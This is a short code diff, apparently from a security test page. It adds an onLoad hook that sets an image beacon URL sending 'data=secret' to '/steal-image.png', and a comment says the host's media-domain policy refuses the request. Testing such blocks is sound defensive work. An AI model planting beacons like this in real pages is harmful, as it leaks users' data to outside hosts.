@@ -44,7 +44,12 @@ const attempts = {
 };
 
 Page({
-  data: { results: [], done: false, lastError: '' },
+  data: { results: [], done: false, lastError: '', beacon: '' },
+
+  onLoad() {
+    // An image beacon carrying data out: the host's mediaDomains policy refuses it.
+    this.setData({ beacon: base + '/steal-image.png?data=secret' });
+  },
 
   async run() {
     const results = [];
